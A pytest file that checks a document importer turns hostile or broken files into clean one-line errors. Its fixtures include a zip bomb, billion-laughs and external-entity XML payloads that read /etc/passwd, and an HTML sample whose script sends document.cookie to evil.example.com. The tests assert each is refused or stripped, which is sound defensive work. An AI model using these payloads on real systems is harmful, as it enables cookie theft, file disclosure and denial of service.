"""Hostile and broken input: each gives one clear line naming the file and the reason, never a crash."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import docx
import pytest
from pypdf import PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

import workbench.importers as importers
from workbench.importers import ArticleImportError, archive, import_file


def _error_for(file: Path) -> str:
    with pytest.raises(ArticleImportError) as caught:
        import_file(file)
    message = str(caught.value)
    assert message.startswith(f"{file.name}: "), "the message names the file"
    assert "\n" not in message and "Traceback" not in message
    return message


def _docx_bytes(text: str = "The council spent £4m on roads.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _replace_member(
    original: bytes, name: str, content: bytes, *, extra: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, content if item.filename == name else source.read(item))
        for extra_name, extra_content in (extra or {}).items():
            target.writestr(extra_name, extra_content)
    return out.getvalue()


def test_empty_file(tmp_path: Path) -> None:
    file = tmp_path / "empty.txt"
    file.write_bytes(b"")
    assert "the file is empty" in _error_for(file)


def test_whitespace_only_file(tmp_path: Path) -> None:
    file = tmp_path / "blank.md"
    file.write_text("\n\n   \n")
    assert "empty" in _error_for(file)


def test_binary_garbage_named_as_text(tmp_path: Path) -> None:
    file = tmp_path / "notes.txt"
    file.write_bytes(bytes(range(256)) * 64)
    assert "does not look like text" in _error_for(file)


def test_missing_file_and_folder(tmp_path: Path) -> None:
    assert "file not found" in _error_for(tmp_path / "gone.pdf")
    folder = tmp_path / "Downloads"
    folder.mkdir()
    (folder / "a.pdf").write_bytes(b"%PDF-1.4")
    (folder / "b.docx").write_bytes(b"PK")
    assert "is a folder" in _error_for(folder)


def test_fake_pdf(tmp_path: Path) -> None:
    file = tmp_path / "report.pdf"
    file.write_bytes(b"just some words in a file called report.pdf\n")
    assert "is not really a PDF document" in _error_for(file)


def test_web_page_named_pdf_is_read_as_a_page_with_a_warning(tmp_path: Path) -> None:
    file = tmp_path / "report.pdf"
    body = "<p>The minister said unemployment fell to 4.1 percent in the spring quarter.</p>" * 4
    file.write_text(f"<!DOCTYPE html><html><head><title>Jobs</title></head><body>{body}</body></html>")
    article = import_file(file)
    assert article.format == "html" and "4.1 percent" in article.text
    assert article.warnings == ("the file is named .pdf but is really a web page",)


def test_damaged_pdf(tmp_path: Path) -> None:
    file = tmp_path / "broken.pdf"
    file.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage garbage\n")
    assert "damaged or truncated PDF" in _error_for(file)


def test_truncated_pdf(tmp_path: Path, data: Path) -> None:
    source = (data / "word-processor-essay.pdf").read_bytes()
    file = tmp_path / "cut.pdf"
    file.write_bytes(source[: len(source) // 3])
    assert "damaged or truncated PDF" in _error_for(file)


def test_password_protected_pdf(tmp_path: Path, data: Path) -> None:
    writer = PdfWriter(clone_from=data / "word-processor-essay.pdf")
    writer.encrypt(user_password="secret", owner_password="owner")
    file = tmp_path / "locked.pdf"
    with file.open("wb") as stream:
        writer.write(stream)
    assert "protected by a password" in _error_for(file)


def test_scanned_pdf_without_text_layer(tmp_path: Path) -> None:
    file = tmp_path / "scan.pdf"
    pdf = canvas.Canvas(str(file), pagesize=A4)
    pdf.rect(72, 72, 400, 600, fill=1)  # what a scanner leaves: pictures, no text
    pdf.showPage()
    pdf.rect(72, 72, 400, 600, fill=1)
    pdf.save()
    assert "no text layer — OCR it first" in _error_for(file)


def test_fake_and_truncated_docx(tmp_path: Path) -> None:
    fake = tmp_path / "memo.docx"
    fake.write_text("plain words in a file named .docx")
    assert "is not really a Word document" in _error_for(fake)
    cut = tmp_path / "cut.docx"
    cut.write_bytes(_docx_bytes()[:3000])
    assert "is not really a Word document" in _error_for(cut)


def test_docx_with_a_broken_document_part(tmp_path: Path) -> None:
    file = tmp_path / "broken.docx"
    file.write_bytes(_replace_member(_docx_bytes(), "word/document.xml", b"<w:document><w:body><w:p>"))
    message = _error_for(file)
    assert "Word document" in message


def test_old_binary_word_file(tmp_path: Path) -> None:
    file = tmp_path / "letter.doc"
    file.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024))
    assert "save it as .docx" in _error_for(file)


def test_zip_bomb_in_docx_is_refused_before_inflating(tmp_path: Path) -> None:
    # 50 MB of zeros packs into about 50 KB: a thousand-fold ratio no real document part has.
    bomb = _replace_member(
        _docx_bytes(), "word/document.xml", b"", extra={"word/media/x.bin": bytes(50 * 2**20)}
    )
    file = tmp_path / "bomb.docx"
    file.write_bytes(bomb)
    assert len(bomb) < 2**20
    assert "zip bomb" in _error_for(file)


@pytest.mark.parametrize("kind", ["docx", "odt", "epub"])
def test_declared_inflated_size_is_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: Path,
                                          kind: str) -> None:  # fmt: skip
    sources = {
        "docx": data / "delivery-drone-press-release.docx",
        "odt": data / "textract-sample.odt",
        "epub": data / "markitdown-sample.epub",
    }
    monkeypatch.setattr(archive, "MAX_INFLATED_BYTES", 1_000)  # stands in for the real 200 MB cap
    file = tmp_path / f"big.{kind}"
    file.write_bytes(sources[kind].read_bytes())
    assert "would inflate to" in _error_for(file)


_BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"""

_EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE office [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">
<office:body><office:text><text:p>&secret;</text:p></office:text></office:body></office:document-content>"""


def test_entity_expansion_in_docx_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "laughs.docx"
    file.write_bytes(_replace_member(_docx_bytes(), "word/document.xml", _BILLION_LAUGHS))
    assert "entity declarations" in _error_for(file)


def test_external_entity_in_odt_is_refused(tmp_path: Path, data: Path) -> None:
    file = tmp_path / "secret.odt"
    file.write_bytes(
        _replace_member((data / "textract-sample.odt").read_bytes(), "content.xml", _EXTERNAL_ENTITY)
    )
    message = _error_for(file)
    assert "entity declarations" in message and "root:" not in message


def test_entity_in_epub_chapter_is_refused(tmp_path: Path, data: Path) -> None:
    chapter = b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body>&x;</body></html>'
    file = tmp_path / "book.epub"
    file.write_bytes(
        _replace_member((data / "markitdown-sample.epub").read_bytes(), "EPUB/chap_1.xhtml", chapter)
    )
    assert "entity declarations" in _error_for(file)


def test_huge_file_is_refused_without_reading_it(tmp_path: Path) -> None:
    file = tmp_path / "huge.pdf"
    with file.open("wb") as stream:  # sparse: takes no disk space and no time
        stream.truncate(importers.MAX_FILE_BYTES + 1)
    message = _error_for(file)
    assert f"files over {importers.MAX_FILE_BYTES // 2**20} MB are not articles" in message


def test_scripts_and_remote_resources_are_never_run_or_loaded(tmp_path: Path, no_network: list[Any]) -> None:
    page = """<!DOCTYPE html><html><head><title>Budget vote</title>
    <script src="http://tracker.example.com/t.js"></script>
    <script>document.write('INJECTED TEXT'); fetch('http://evil.example.com/?c=' + document.cookie);</script>
    <link rel="stylesheet" href="http://cdn.example.com/site.css">
    <meta http-equiv="refresh" content="0; url=http://evil.example.com/">
    </head><body><article><h1>Budget vote</h1>
    <img src="http://images.example.com/photo.jpg" onerror="alert(1)">
    <iframe src="http://ads.example.com/frame.html"></iframe>
    <p>The council approved a budget of 12 million pounds on Tuesday, a rise of 4 percent on last year.</p>
    <p>Opposition members said the increase would not cover the cost of repairing the town's roads.</p>
    <p>The mayor said the new budget protected libraries and bus routes for another three years.</p>
    </article></body></html>"""
    file = tmp_path / "budget.html"
    file.write_text(page, encoding="utf-8")
    article = import_file(file)
    assert "12 million pounds" in article.text and "bus routes" in article.text
    assert "INJECTED" not in article.text and "fetch(" not in article.text and "alert" not in article.text
    assert not no_network, "importing a local page must not touch the network"


def test_deeply_nested_html_is_an_error_or_text_never_a_crash(tmp_path: Path) -> None:
    file = tmp_path / "nested.html"
    file.write_text("<html><body>" + "<div>" * 50_000 + "Deep text." + "</div>" * 50_000 + "</body></html>")
    try:
        article = import_file(file)
    except ArticleImportError as error:
        assert str(error).startswith("nested.html: ")
    else:
        assert "Deep text." in article.text


def test_rtf_nesting_attack(tmp_path: Path) -> None:
    file = tmp_path / "deep.rtf"
    file.write_text("{\\rtf1 " + "{" * 100_000 + "text" + "}" * 100_000 + "}")
    assert "nest too deeply" in _error_for(file)


def test_a_head_of_comments_leading_nowhere_is_plain_text(tmp_path: Path) -> None:
    # Such a head made a regular-expression sniffer backtrack for minutes; now it is a quick no.
    file = tmp_path / "comments.txt"
    file.write_text("<!-- a -->" * 400 + "\n\nThe tally was 312 votes to 297.", encoding="utf-8")
    article = import_file(file)
    assert article.format == "txt" and "312 votes to 297" in article.text


def test_hex_like_text_in_rtf_is_kept(tmp_path: Path) -> None:
    file = tmp_path / "hashes.rtf"
    digest = "deadbeef" * 8  # 64 hex digits: text, not a picture
    file.write_text("{\\rtf1\\ansi The file's checksum was " + digest + ".\\par }", encoding="ascii")
    assert digest in import_file(file).text


def test_password_protected_word_file(tmp_path: Path) -> None:
    # Word saves an encrypted .docx as an OLE2 container holding an "EncryptedPackage" stream.
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    directory = "EncryptionInfo".encode("utf-16-le").ljust(128, b"\0")
    directory += "EncryptedPackage".encode("utf-16-le").ljust(128, b"\0")
    file = tmp_path / "locked.docx"
    file.write_bytes(header + directory + bytes(4096))
    assert "protected by a password" in _error_for(file)


def test_library_messages_about_broken_files_stay_one_clean_line(tmp_path: Path, data: Path) -> None:
    source = bytearray((data / "markitdown-sample.epub").read_bytes())
    source[30:38] = b"m\nmetype"  # the first member's local name now differs from the directory's
    file = tmp_path / "odd.epub"
    file.write_bytes(bytes(source))
    message = _error_for(file)
    assert message.isprintable()


def test_text_with_a_bom_and_a_few_damaged_bytes_is_imported(tmp_path: Path) -> None:
    file = tmp_path / "damaged.txt"
    file.write_bytes(b"\xef\xbb\xbfThe harbour handled 2.1 million containers \xff\xfe last year.")
    article = import_file(file)
    assert "2.1 million containers" in article.text and "last year." in article.text


def test_a_character_a_pdf_hands_out_in_halves_never_reaches_the_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Korean PDF's text layer gave UTF-16 halves ("\\udb82\\udc54"): nothing could encode them, so
    claim extraction and saving failed. They become U+FFFD, and every offset stays where it was."""
    from dataclasses import replace

    from workbench.importers import pdf

    original = pdf.PdfImporter.parse

    def in_halves(self: pdf.PdfImporter, data: bytes, path: Path) -> importers.ImportedArticle:
        article = original(self, data, path)
        return replace(article, text=article.text.replace("council", "\udb82\udc54council", 1))

    monkeypatch.setattr(pdf.PdfImporter, "parse", in_halves)
    file = tmp_path / "halves.pdf"
    page = canvas.Canvas(str(file), pagesize=A4)
    page.drawString(72, 760, "The council spent 4 million pounds on roads in 2019.")
    page.save()

    article = import_file(file)
    article.text.encode("utf-8")
    assert "\ufffd\ufffdcouncil spent" in article.text
    for start, end in article.paragraphs:
        assert article.text[start:end].strip()
